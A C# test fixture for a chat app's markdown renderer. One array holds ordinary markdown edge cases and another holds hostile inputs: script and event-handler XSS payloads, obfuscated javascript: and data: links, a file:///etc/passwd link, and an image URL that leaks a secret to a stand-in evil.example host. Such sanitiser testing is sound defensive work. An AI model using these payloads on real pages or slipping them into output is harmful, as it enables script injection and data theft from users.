namespace ChatOllama.Tests.Web;

/// <summary>Texts as models write them, and texts as nobody should.</summary>
internal static class RenderCorpus
{
    public static readonly string[] Ordinary =
    [
        "Hello **world**, this is *fine* and `code` and ~~gone~~.\n\nSecond paragraph with a [link](https://example.org/a_(b)?q=1) in it.",
        "# Title\n\nText\n\n## Second\nText right below\n- a\n- b\n  - c\n\n    more of c\n- d\n\nAfter the list.",
        "1. one\n\n2. two\n\n   ```python\n   def f(x):\n       return x\n   ```\n\n3. three\n\nEnd\n\n10. ten\n11. eleven\n",
        "| a | b |\n|---|:-:|\n| 1 | `x|y` |\n| 2 | **z** |\n\nAfter the table\n\na | b\n--|--\n1 | 2\n\nend",
        "```csharp\nvar x = \"a < b\"; // done\n\n\nreturn x;\n```\nDirectly after.\n~~~\nplain ``` inside\n~~~\n\n````md\n```\ninner\n```\n````\n",
        "Unclosed at the end:\n\n```js\nconst a = 1;\nfunction f() {",
        "> quote\n> more\nlazy\n\n> - list in quote\n>   two\n\nText\n***\nText\n---\nNot a heading above.",
        "- [ ] to do\n- [x] done\n- plain\n\n* other list\n* more\n\n+ third",
        "Math \\(a^2 + b^2\\) and \\[ \\int_0^1 x\\,dx \\] and $x_1$ costs $5 and $10.\n\n$$\nE = mc^2\n$$\n\nend",
        "Indented:\n\n    code here\n\n    more code\n\nNormal again\n\n\tTabbed code\n",
        "Emoji 😀 here 👩‍👩‍👧 and Arabic مرحبا بالعالم and Hebrew שלום and CJK 你好，世界。\r\n\r\nWindows\r\nlines\r\n",
        "Long [text\nover lines](https://example.org) and ![an image](https://example.org/x.png) end.\n\n![](https://example.org/y.png)",
        "Email <me@example.org>, <https://example.org/?a=1&b=2>, www.example.org and https://example.org/path_with_(parens).",
        "Escapes \\* \\_ \\` \\[ &amp; &lt; &copy; a * b * c, snake_case_word, 2*3*4, a_b_ c\\\nhard  \nbreak",
        "[ref]: https://example.org\n\nA [ref] and [text][ref] and [^1].\n\n[^1]: note\n",
        "Nested **bold with *italic* and `code`** done.\n- **Item:** text\n- **Item two:** *x*\n\t- deep\n\t\t- deeper\n",
        "\n\n\nLeading blank lines\n\n\n\n\nand many between\n\n\n",
        "- a\n\n\n- b\n\n\nc\n- d\n1. e\n2) f\n3) g",
        "***both*** __strong__ _em_ **unclosed and *unclosed",
        "A line that ends with a number\n42\n\n1986\\. A year\n\nTotal: 7\n-",
    ];

    public static readonly string[] Hostile =
    [
        "<script>alert(1)</script>", "a <script>alert(1)</script> b <img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<div onclick=\"x\">\n\n<p>x</p></div>",
        "<iframe src=\"javascript:alert(1)\"></iframe>\n<style>@import 'http://evil.example/x.css'</style>", "<!-- comment --><![CDATA[x]]><?php x ?>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1) )", "[x](<java\tscript:alert(1)>)", "[x](java&#10;script:alert(1))", "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))", "[x](javascript&#58;alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example/x)", "[x](/v1/messages/1/stop)",
        "[x](\u0001javascript:alert(1))", "[x](https://a\u202Eb.example)", "[x](http://evil.example/\"onmouseover=\"alert(1))", "[x](https://ok.example 'a\" onclick=\"alert(1)')", "[x](<https://ok.example/<script>>)",
        "![x](https://evil.example/leak.png?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](javascript:alert(1))", "[![b](https://evil.example/b.png)](https://ok.example)", "![a [b](https://c.example) d](https://e.example/i.png)",
        "<javascript:alert(1)>", "<data:text/html,x>", "<https://ok.example/\" onclick=x>", "javascript:alert(1) data:text/html,x vbscript:x www.evil.example\"onclick=x",
        "[x]: javascript:alert(1)\n[x]\n[y][x]", "[x]: https://ok.example \"t\\\" onclick=\\\"alert(1)\"\n[x]", "# h {onclick=alert(1)}\n\npara {#id .cls onclick=alert(1)}\n\n```js {onclick=alert(1)}\nx\n```",
        "```\"><script>alert(1)</script>\ncode\n```", "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```", "~~~ html onload=x\n<b onclick=\"x\">\n~~~", "`</code><script>alert(1)</script>`",
        "| <script> | b |\n|--|--|\n| <img src=x onerror=y> | [x](javascript:y) |", "- [x](javascript:y)\n- [ ] <input onfocus=x autofocus>", "> <a href=javascript:x>y</a>",
        "\\(</code><script>alert(1)</script>\\) $</span><img src=x onerror=y>$\n\n$$\n</code><script>x</script>\n$$", "\u202Egnirts desrever\u202C \u2066isolate \0 nul \u0007 bell \u2028 sep", "a\0b [x](java\0script:alert(1)) <scr\0ipt>",
        "[unclosed](https://ok.example", "[[[[[[[[[[x](javascript:y)", "![![![![x](https://evil.example/a)](https://evil.example/b)", "**[x**](javascript:y)", "`[x](javascript:y)", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
        "```html\n<script src=\"https://evil.example\"></script>\n<a b='c' d=\"e\n```", "```diff\n+<script>\n-</span>\n```", "```json\n{\"</span><script>\": \"x\"}\n```", "```yaml\n</span><img>: 1\n```",
        "http://ok.example/<script>alert(1)</script>", "mailto:x@y.example?body=<script>", "[x](mailto:a@b.example?subject=\"><script>)", "\ud800 lone surrogate \udc00 [x](https://\ud800.example)",
    ];

    public static IEnumerable<string> All => Ordinary.Concat(Hostile).Append(string.Join("\n\n", Ordinary)).Append(string.Join("\n\n", Hostile));
}
